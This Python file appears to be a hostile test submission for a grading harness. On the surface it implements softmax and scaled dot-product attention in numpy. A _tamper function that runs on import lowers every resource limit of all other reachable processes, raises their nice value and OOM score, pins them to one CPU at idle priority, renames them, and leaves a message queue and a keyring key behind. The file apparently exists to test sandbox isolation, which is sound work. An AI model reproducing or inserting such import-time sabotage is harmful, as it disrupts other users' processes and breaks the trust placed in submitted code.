"""At import, changes every setting of every process it can reach that a later worker
could inherit or meet: for each process it can see, lowers every rlimit, raises its nice
value, its I/O priority and its OOM score, moves it to one CPU and to the idle scheduling
class, and renames it; it also creates a POSIX message queue and a key in its user's
keyring, and lowers its own limits. The head itself is the lesson's, so it keeps full
marks; those graded after it must too."""
# must-fail:
# must-pass: *
# report-status: graded

import ctypes
import os
import resource

import numpy as np

_libc = ctypes.CDLL(None, use_errno=True)
SYS_IOPRIO_SET = 251  # x86_64
IOPRIO_WHO_PROCESS, IOPRIO_IDLE = 1, 3 << 13
SYS_ADD_KEY, KEY_SPEC_USER_KEYRING = 248, -4
O_CREAT, O_RDWR = 0o100, 0o2


def _try(action, *args):
    try:
        action(*args)
    except (OSError, ValueError, AttributeError):
        pass


def _write(path, text):
    with open(path, "w") as stream:
        stream.write(text)


def _tamper():
    if __name__ != "attention":
        return  # only as a graded submission
    me = os.getpid()
    others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != me]
    for pid in others:
        for name in dir(resource):
            if name.startswith("RLIMIT_"):
                _try(resource.prlimit, pid, getattr(resource, name), (1, 1))
        _try(os.setpriority, os.PRIO_PROCESS, pid, 19)
        _try(os.sched_setaffinity, pid, {0})
        _try(os.sched_setscheduler, pid, os.SCHED_IDLE, os.sched_param(0))
        _libc.syscall(SYS_IOPRIO_SET, IOPRIO_WHO_PROCESS, pid, IOPRIO_IDLE)
        _try(_write, f"/proc/{pid}/oom_score_adj", "1000")
        _try(_write, f"/proc/{pid}/comm", "hostile")
        _try(_write, f"/proc/{pid}/timerslack_ns", "1000000000")
    _libc.mq_open(b"/hostile-queue", O_CREAT | O_RDWR, 0o666, None)
    _libc.syscall(SYS_ADD_KEY, b"user", b"hostile-key", b"left for the next worker", 24, KEY_SPEC_USER_KEYRING)
    os.umask(0o777)
    _try(resource.setrlimit, resource.RLIMIT_CORE, (0, 0))


_tamper()


def softmax(x, axis=-1):
    x = x - x.max(axis=axis, keepdims=True)
    e = np.exp(x)
    return e / e.sum(axis=axis, keepdims=True)


def attention(Q, K, V, mask=None):
    d_k = Q.shape[-1]
    scores = (Q @ np.swapaxes(K, -1, -2)) / np.sqrt(d_k)
    if mask is not None:
        scores = np.where(mask, scores, -np.inf)
    A = softmax(scores, axis=-1)
    return A @ V, A


def self_attention(X, Wq, Wk, Wv, mask=None):
    return attention(X @ Wq, X @ Wk, X @ Wv, mask)


def causal_mask(n):
    return np.tril(np.ones((n, n), dtype=bool))
